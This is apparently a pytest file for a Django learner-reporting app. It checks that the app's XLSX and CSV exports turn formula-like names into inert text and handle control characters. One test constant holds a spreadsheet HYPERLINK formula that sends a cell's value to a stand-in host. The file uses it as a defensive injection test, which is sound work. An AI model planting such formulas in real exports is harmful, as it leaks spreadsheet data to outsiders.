"""Issue 15, findings 1 and 2: whatever is stored, the report and learner-list
exports answer, and no exported text cell is a live formula."""

import csv
import io

import pytest
from django.db import connection
from django.urls import reverse
from hocvuso.accounts.models import User
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

LEAKY_NAME = '=HYPERLINK("http://x.example/?leak="&B8,"Bấm vào đây")'


def _q(data):
    return f"subject=programme:{data.programme.pk}&audience="


def _learner_url(org_tree, dataset):
    return (
        reverse("report_learners", args=[org_tree.villages[0].code]) + "?" + _q(dataset)
    )


def _rename_a_listed_learner(client, url, name) -> None:
    rows = client.get(url).context["rows"]
    assert rows
    User.objects.filter(phone=rows[0].phone).update(full_name=name)


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_learner_xlsx_writes_a_formula_name_as_text(client, org_tree, dataset):
    client.force_login(org_tree.admins["commune0.0"])
    url = _learner_url(org_tree, dataset)
    _rename_a_listed_learner(client, url, LEAKY_NAME)
    response = client.get(url + "&format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Học viên"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == LEAKY_NAME]
    assert cells, "the name is exported as written"
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_learner_csv_neutralises_a_formula_name(client, org_tree, dataset):
    client.force_login(org_tree.admins["commune0.0"])
    url = _learner_url(org_tree, dataset)
    _rename_a_listed_learner(client, url, LEAKY_NAME)
    rows = _csv_rows(client.get(url + "&format=csv"))
    names = [r[0] for r in rows if r]
    assert "'" + LEAKY_NAME in names
    live = [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "-", "@")) and not cell[1:].isdigit()
    ]
    assert live == []


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b"])
def test_learner_exports_answer_with_a_stored_control_character(
    client, org_tree, dataset, char
):
    if char == "\x00" and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL cannot store NUL in text at all")
    client.force_login(org_tree.admins["commune0.0"])
    url = _learner_url(org_tree, dataset)
    _rename_a_listed_learner(client, url, f"Nguyễn{char}Văn An")
    xlsx = client.get(url + "&format=xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["Học viên"]
    values = [c for row in sheet.iter_rows(values_only=True) for c in row]
    assert "NguyễnVăn An" in values
    rows = _csv_rows(client.get(url + "&format=csv"))
    assert [r[0] for r in rows if r and r[0] == "NguyễnVăn An"] == ["NguyễnVăn An"]


def test_report_exports_answer_with_a_control_character_in_a_village_name(
    client, org_tree, dataset
):
    village = org_tree.villages[0]
    type(village).objects.filter(pk=village.pk).update(name="Thôn\x01Một")
    client.force_login(org_tree.admins["province0"])
    province = org_tree.provinces[0]
    xlsx = client.get(reverse("report_xlsx", args=[province.code]) + "?" + _q(dataset))
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    values = [
        v for row in book["Thôn, tổ dân phố"].iter_rows(values_only=True) for v in row
    ]
    assert "ThônMột" in values
